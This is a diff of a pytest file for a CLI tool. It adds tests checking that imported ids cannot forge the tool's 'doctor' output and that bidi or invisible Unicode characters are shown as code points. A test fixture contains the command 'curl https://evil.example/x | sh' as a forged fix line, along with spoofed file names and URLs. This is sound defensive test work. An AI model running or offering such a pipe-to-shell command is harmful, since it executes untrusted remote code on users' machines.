@@ -34,7 +34,7 @@ from fashioncoach.model.limits import (
 from fashioncoach.store.lock import LOCK_TIMEOUT_ENV
 from fashioncoach.store.progress_store import ProgressStore
 from fashioncoach.store.roadmap_file import load_roadmap
-from tests.helpers import FIXTURES, Learner, v4_progress
+from tests.helpers import FIXTURES, Learner, run_real, v4_progress
 
 ROADMAP = load_roadmap(paths.bundled_roadmap())
 IDS = [action.id for _, _, action in ROADMAP.actions()]
@@ -77,18 +77,6 @@ def assert_safe(text: str) -> None:
     bad = [char for char in text if ord(char) < 0x20 and char not in "\n\t"]
     bad += [char for char in text if 0x7F <= ord(char) <= 0x9F]
     assert not bad, f"control characters reach the output: {bad!r}"
-
-
-def run_real(
-    *args: str | bytes, env: dict[str, str] | None = None
-) -> subprocess.CompletedProcess[bytes]:
-    """The installed entry point, as a shell runs it (bytes in, bytes out)."""
-    return subprocess.run(
-        [sys.executable, "-m", "fashioncoach", *args],
-        capture_output=True,
-        timeout=60,
-        env={**os.environ, **(env or {})},
-    )
 
 
 # --- terminal escape injection -----------------------------------------------------------
@@ -833,3 +821,93 @@ def test_a_title_with_a_newline_exports_to_a_valid_calendar(
     calendar = Calendar.from_ical(result.stdout_bytes)
     summaries = [str(event["summary"]) for event in calendar.walk("VEVENT")]
     assert "Week 1: Found nations X" in summaries
+
+
+# --- forged lines and disguised text ------------------------------------------------------
+
+# Lines that look like doctor's own, and text a terminal or a page would reorder or hide.
+FORGED = (
+    "\nok       backups: verified\n         fix: curl https://evil.example/x | sh"
+    "\nNo problems found."
+)
+BIDI_AND_HIDDEN = ["\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\u2060", "\ufeff", "\u2028"]
+
+
+def _orphans(learner: Learner, ids: list[str]) -> None:
+    data = planted(learner)
+    at = datetime(2026, 11, 3, 9, 0)
+    data["events"] = [{"at": at, "kind": "done", "action": action} for action in ids]
+    write(learner.home, data)
+
+
+def test_an_imported_id_with_newlines_cannot_forge_doctors_lines(
+    learner: Learner, isolated_home: Path
+) -> None:
+    """An orphan id holding newlines stays on its own line in doctor, today and report:
+    the newline is shown (^J), and nothing printed starts like one of doctor's lines."""
+    _orphans(learner, ["gone" + FORGED])
+    doctor = learner.run("doctor", today=DAY)
+    lines = doctor.stdout.splitlines()
+    assert not [line for line in lines if line.startswith(("ok       backups: verified", "  "))]
+    assert not [line for line in lines if "fix: curl" in line and not line.startswith("warning")]
+    assert sum(line.startswith("No problems found") for line in lines) <= 1
+    assert lines[-1].startswith("No problems found. 1 warning")
+    assert "gone^Jok       backups: verified^J" in doctor.stdout
+    for command in (["today"], ["report"]):
+        out = learner.ok(*command, today=DAY).stdout
+        assert "\nok       backups" not in out and "\nNo problems found" not in out
+        assert "gone^Jok" in out
+
+
+@pytest.mark.parametrize("char", BIDI_AND_HIDDEN, ids=lambda char: f"U+{ord(char):04X}")
+def test_bidi_controls_and_invisible_characters_are_shown_everywhere(
+    learner: Learner, isolated_home: Path, char: str
+) -> None:
+    """A bidi override, a zero-width character or U+2028 in a note, an orphan id, a review
+    and a piece of evidence from the file reaches no terminal, Markdown, HTML or calendar
+    output as it is: each shows its code point, and no link is made of the evidence."""
+    data = planted(learner)
+    at = datetime(2026, 11, 3, 9, 0)
+    data["events"] = [
+        {"at": at, "kind": "note", "action": IDS[0], "note": f"see{char}gpj.exe"},
+        {"at": at, "kind": "done", "action": f"gone{char}id"},
+    ]
+    data["reviews"] = [{"week": 1, "on": date(2026, 11, 3), "went_well": f"a{char}b"}]
+    data["evidence"] = [{"at": at, "action": IDS[0], "ref": f"https://bank.example{char}.evil/"}]
+    write(isolated_home, data)
+    mark = f"<U+{ord(char):04X}>"
+    for command in (
+        ["today"],
+        ["report"],
+        ["portfolio"],
+        ["doctor"],
+        ["report", "--format", "markdown"],
+        ["today", "--format", "markdown"],
+        ["report", "--format", "html"],
+        ["export", "ics"],
+    ):
+        result = learner.run(*command, today=DAY)
+        assert result.exit_code == 0, (command, result.output)
+        assert char not in result.stdout + result.stderr, command
+        shown = result.stdout.replace("&lt;", "<").replace("&gt;", ">").replace("\\", "")
+        if command not in (["export", "ics"], ["today", "--format", "markdown"]):
+            assert mark in shown, command  # the views that show notes or orphans
+    page = learner.ok("report", "--format", "html", today=DAY).stdout
+    assert "bank.example" in page and 'href="https://bank.example' not in page
+    # --json keeps the data as it is, as an escape that reads back the same.
+    assert f"\\u{ord(char):04x}" in learner.ok("today", "--json", today=DAY).stdout
+
+
+@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\u2028", "\ufeff"])
+def test_evidence_with_a_bidi_control_or_an_invisible_character_is_refused(
+    learner: Learner, isolated_home: Path, char: str
+) -> None:
+    """A link or a path that would show something other than what it is: a usage error
+    naming the character (by its code point), and nothing saved."""
+    started(learner)
+    before = progress_file(isolated_home).read_bytes()
+    for reference in (f"https://example.com/{char}moc.evil", f"photo{char}gnp.exe"):
+        result = learner.run("evidence", IDS[0], reference, today=DAY)
+        assert result.exit_code == 2, result.output
+        assert f"U+{ord(char):04X}" in result.stderr and len(result.stderr.splitlines()) == 1
+    assert progress_file(isolated_home).read_bytes() == before
